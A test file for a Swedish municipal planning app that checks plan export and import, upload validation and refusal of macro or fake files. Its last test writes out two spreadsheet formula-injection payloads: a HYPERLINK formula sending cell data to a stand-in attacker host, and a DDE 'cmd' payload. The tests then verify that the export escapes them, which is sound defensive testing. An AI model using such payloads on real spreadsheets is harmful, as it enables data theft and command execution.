import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { createTestApp, type TestContext } from '../../../../test/helpers/app.ts';
import { signIn } from '../../../../test/helpers/factories.ts';
import { silentLog } from '../../../../test/helpers/jobs.ts';
import { createJobRunner } from '../../lib/job-runner.ts';
import { parseCsv, toCsv } from '../../lib/documents/csv.ts';
import { officeFile } from '../../../../test/helpers/office.ts';
import { sv } from '../../../shared/i18n/sv.ts';
import { expectError } from '../../../../test/helpers/http.ts';

let ctx: TestContext;
let coordinator: string;
let programId: string;

beforeAll(async () => {
  ctx = await createTestApp();
  coordinator = await signIn(ctx.app, 'samordnare@lund.example');
  const programs = (await ctx.app.inject({ method: 'GET', url: '/api/programs', headers: { cookie: coordinator } })).json().items as { id: string; title: string }[];
  programId = programs.find((p) => p.title === 'Program för trygghet och säkerhet i Lunds kommun')!.id;
});
afterAll(() => ctx?.close());

function multipart(filename: string, data: Buffer) {
  const boundary = '----trygg' + Math.random().toString(16).slice(2);
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const upload = (cookie: string, filename: string, data: Buffer, dryRun: boolean) => {
  const m = multipart(filename, data);
  return ctx.app.inject({ method: 'POST', url: `/api/programs/${programId}/import?dryRun=${dryRun}`, headers: { cookie, ...m.headers }, payload: m.payload });
};

async function exportPlan(format: 'xlsx' | 'csv') {
  const res = await ctx.app.inject({ method: 'POST', url: '/api/exports', headers: { cookie: coordinator }, payload: { kind: 'program.plan', format, params: { programId } } });
  expect(res.statusCode, res.body).toBe(202);
  await createJobRunner({ db: ctx.database.db, config: ctx.config, log: silentLog, handlers: ctx.app.contributions.jobHandlers, recurring: [] }).runDue();
  const file = await ctx.app.inject({ method: 'GET', url: `/api/exports/${res.json().id}/file`, headers: { cookie: coordinator } });
  expect(file.statusCode).toBe(200);
  return file.rawPayload;
}

const actionCount = async () => (await ctx.database.db.execute<{ n: number }>(sql`select count(*)::int as n from plan_actions`)).rows[0].n;

describe('plan export and import', () => {
  it('an exported plan (XLSX and CSV) re-imports to the same plan with nothing to change', async () => {
    for (const format of ['xlsx', 'csv'] as const) {
      const file = await exportPlan(format);
      const res = await upload(coordinator, `plan.${format}`, file, true);
      expect(res.statusCode, res.body).toBe(200);
      const report = res.json();
      expect(report.valid).toBe(true);
      expect(report.counts.unchanged).toBeGreaterThan(5);
      expect(report.counts).toMatchObject({ create: 0, update: 0, invalid: 0 });
      const before = await actionCount();
      const applied = await upload(coordinator, `plan.${format}`, file, false);
      expect(applied.json()).toMatchObject({ applied: true, valid: true });
      expect(await actionCount()).toBe(before);
    }
  });

  it('previews and then applies changed and new rows, with an audit entry each', async () => {
    const csv = parseCsv(await exportPlan('csv'));
    const [first] = csv.rows;
    const changed: Record<string, string> = { ...first, Genomförandegrad: '77', Status: 'Försenad' };
    const added: Record<string, string> = { ...first, Id: '', Åtgärd: 'Ny åtgärd från import', Genomförandegrad: '5', Status: 'pågår', Ansvarig: 'tn', Medverkande: 'Polismyndigheten', Delområden: 'Trygghetshöjande arbete' };
    const file = toCsv(csv.headers, [changed, ...csv.rows.slice(1), added].map((r) => csv.headers.map((h) => r[h])));
    const preview = (await upload(coordinator, 'plan.csv', file, true)).json();
    expect(preview.counts).toMatchObject({ update: 1, create: 1, invalid: 0 });
    expect(preview.rows.find((r: { operation: string }) => r.operation === 'create').title).toBe('Ny åtgärd från import');
    const res = await upload(coordinator, 'plan.csv', file, false);
    expect(res.statusCode, res.body).toBe(200);
    const action = (await ctx.app.inject({ method: 'GET', url: `/api/actions/${first.Id}`, headers: { cookie: coordinator } })).json();
    expect(action).toMatchObject({ progress: 77, status: 'delayed' });
    const created = (await ctx.app.inject({ method: 'GET', url: `/api/actions?programId=${programId}`, headers: { cookie: coordinator } })).json().items.find((a: { title: string }) => a.title === 'Ny åtgärd från import');
    expect(created).toMatchObject({ status: 'in_progress', progress: 5, responsibleOrganisationName: 'Tekniska nämnden', subAreas: ['sense_of_safety'] });
    expect(created.contributorIds).toHaveLength(1);
    const audit = await ctx.database.db.execute<{ n: number }>(sql`select count(*)::int as n from audit_log where action = 'import' and entity_id in (${first.Id}, ${created.id})`);
    expect(audit.rows[0].n).toBe(2);
  });

  it('reports every bad row in Swedish and imports nothing while any row is invalid', async () => {
    const csv = parseCsv(await exportPlan('csv'));
    const ok: Record<string, string> = { ...csv.rows[0], Id: '', Åtgärd: 'Giltig rad' };
    const bad: Record<string, string>[] = [
      { ...ok, Genomförandegrad: '150' },
      { ...ok, Ansvarig: 'Finns inte-nämnden' },
      { ...ok, Startdatum: '2026-13-01' },
      { ...ok, Startdatum: '2026-06-01', Slutdatum: '2026-05-01' },
      { ...ok, Status: 'klar typ' },
      { ...ok, Fokusområde: '9' },
      { ...ok, Åtgärd: '' },
      { ...ok, Id: '00000000-0000-4000-8000-000000000000' },
    ];
    const file = toCsv(csv.headers, [ok, ...bad].map((r) => csv.headers.map((h) => r[h])));
    const before = await actionCount();
    const preview = (await upload(coordinator, 'plan.csv', file, true)).json();
    expect(preview.valid).toBe(false);
    expect(preview.counts.invalid).toBe(bad.length);
    const messages = preview.rows.flatMap((r: { errors: { message: string }[] }) => r.errors.map((e) => e.message));
    expect(messages).toEqual(
      expect.arrayContaining([
        'Ange ett heltal mellan 0 och 100.',
        'Organisationen "Finns inte-nämnden" finns inte eller är avaktiverad.',
        'Ange datum som ÅÅÅÅ-MM-DD.',
        'Slutdatum är före startdatum.',
        'Fokusområde 9, mål 1 finns inte i planen.',
        'Måste fyllas i.',
        'Åtgärden med detta id finns inte i planen.',
      ]),
    );
    expect(messages.some((m: string) => m.startsWith('Okänd status "klar typ"'))).toBe(true);
    expect(preview.rows[0]).toMatchObject({ row: 2, operation: 'create', errors: [] });

    const res = await upload(coordinator, 'plan.csv', file, false);
    expectError(res, 400, 'IMPORT_INVALID');
    expect(res.json().error.fields).toContainEqual({ path: 'rad 3: Genomförandegrad', message: 'Ange ett heltal mellan 0 och 100.' });
    expect(await actionCount()).toBe(before);
  });

  it('refuses what is not a plan file, and those who may not manage the plan', async () => {
    const missingColumns = (await upload(coordinator, 'x.csv', Buffer.from('a;b\n1;2\n'), true)).json();
    expect(missingColumns.fileErrors).toContain('Kolumnen "Åtgärd" saknas.');
    expect((await upload(coordinator, 'x.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]), true)).statusCode).toBe(415);
    // A file that only claims to be a workbook, or any ZIP: not an Excel file (415, checked by content).
    const fake = await upload(coordinator, 'fake.xlsx', Buffer.from('PK\u0003\u0004xl/not really a zip'), true);
    expect(fake.statusCode).toBe(415);
    expect(fake.json().error.code).toBe('FILE_TYPE_NOT_ALLOWED');
    expect((await upload(coordinator, 'plan.xlsx', await officeFile('zip-naming-word'), true)).statusCode).toBe(415);
    // A macro-enabled workbook is refused with its own message.
    const xlsm = await upload(coordinator, 'plan.xlsx', await officeFile('xlsm'), true);
    expect(xlsm.statusCode).toBe(415);
    expect(xlsm.json().error).toMatchObject({ code: 'FILE_MACRO_NOT_ALLOWED', message: sv.errors.FILE_MACRO_NOT_ALLOWED });
    expect((await upload(coordinator, 'empty.csv', Buffer.alloc(0), true)).statusCode).toBe(400);
    const json = await ctx.app.inject({ method: 'POST', url: `/api/programs/${programId}/import`, headers: { cookie: coordinator }, payload: { file: 'x' } });
    expect(json.statusCode).toBe(415);
    const reporter = await signIn(ctx.app, 'rapportor.son@lund.example');
    expect((await upload(reporter, 'plan.csv', Buffer.from('Åtgärd\nx\n'), true)).statusCode).toBe(403);
    const big = Buffer.alloc(6 * 1024 * 1024, 'a');
    expect((await upload(coordinator, 'big.csv', big, true)).statusCode).toBe(413);
  });
});

describe('formula injection in the CSV export', () => {
  it('a title that looks like a formula is written as text, and the export still re-imports unchanged', async () => {
    const formula = '=HYPERLINK("https://angripare.example/?d="&B2;"Öppna planen")';
    const [first] = parseCsv(await exportPlan('csv')).rows;
    await ctx.database.db.execute(sql`update plan_actions set title = ${formula}, description = ${'@SUM(1+1)*cmd|" /C calc"!A0'} where id = ${first.Id}`);
    const raw = (await exportPlan('csv')).toString('utf8');
    // No cell of the file begins with a formula character (cells are separated by ; and may be quoted).
    expect(raw).toContain(`"'=HYPERLINK(""https://angripare.example/?d=""&B2;""Öppna planen"")"`);
    expect(raw).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    for (const line of raw.replace(/^\uFEFF/, '').split('\r\n')) expect(line).not.toMatch(/(^|;)"?[=+@]/);
    // Trygg reads its own export back to the same text: nothing to change.
    const row = parseCsv(raw).rows.find((r) => r.Id === first.Id)!;
    expect(row.Åtgärd).toBe(formula);
    const report = (await upload(coordinator, 'plan.csv', Buffer.from(raw), true)).json();
    expect(report.counts).toMatchObject({ update: 0, create: 0, invalid: 0 });
  });
});
